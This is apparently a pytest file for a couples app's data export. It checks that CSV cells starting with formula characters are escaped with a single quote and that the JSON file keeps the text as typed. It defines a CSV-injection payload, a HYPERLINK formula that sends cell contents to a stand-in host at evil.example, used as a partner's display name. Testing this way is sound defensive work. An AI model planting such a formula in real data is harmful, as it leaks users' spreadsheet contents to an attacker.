"""The export's CSV files never hand a spreadsheet a formula someone else typed.

Opened in a spreadsheet, a cell starting with = + - @ (or a tab or carriage return) runs
as a formula. A partner chooses their own display name and writes agreements that land
in the other's export: those cells start with a single quote there, and stay exactly as
typed in alongside.json.
"""

from __future__ import annotations

import csv
import io
import json
import zipfile
from collections.abc import Callable
from typing import Any

from alongside.accounts.export import _csv, build_zip
from alongside.together.models import Agreement, Session

LEAK = '=HYPERLINK("https://evil.example/?d="&A2,"Open")'
SUM = "+SUM(1,2)"


def _files(user: Any) -> tuple[dict[str, list[dict[str, str]]], dict[str, Any]]:
    archive = zipfile.ZipFile(io.BytesIO(build_zip(user)))
    tables = {
        name.removesuffix(".csv"): list(csv.DictReader(io.StringIO(archive.read(name).decode())))
        for name in archive.namelist()
        if name.endswith(".csv")
    }
    return tables, json.loads(archive.read("alongside.json"))


def test_a_partners_name_and_agreement_reach_the_export_as_text(
    alice: Any, ben: Any, link_couple: Callable[..., Any]
) -> None:
    ben.display_name = LEAK
    ben.save()
    link = link_couple(["mood"], ["mood"])
    session = Session.for_week(link, alice.local_today())
    Agreement.objects.create(session=session, text=SUM, owner=alice, created_by=ben)
    tables, raw = _files(alice)
    assert [row["with"] for row in tables["sharing"]] == ["'" + LEAK]
    assert [row["name"] for row in tables["circle"]] == ["'" + LEAK]
    assert [row["text"] for row in tables["together_agreements"]] == ["'" + SUM]
    # The JSON file is not opened by spreadsheets: it keeps exactly what was typed.
    assert raw["sharing"][0]["with"] == LEAK
    assert raw["together_agreements"][0]["text"] == SUM


def test_every_formula_start_is_neutralised_and_numbers_stay_numbers() -> None:
    rows = [
        {"text": start + "1", "number": -3, "share": 0.5}
        for start in ("=", "+", "-", "@", "\t", "\r")
    ] + [{"text": "plain words", "number": -3, "share": -0.5}]
    written = list(csv.DictReader(io.StringIO(_csv(rows), newline="")))
    assert [row["text"] for row in written] == [
        "'=1",
        "'+1",
        "'-1",
        "'@1",
        "'\t1",
        "'\r1",
        "plain words",
    ]
    assert {row["number"] for row in written} == {"-3"}  # a number, as written
    assert written[-1]["share"] == "-0.5"
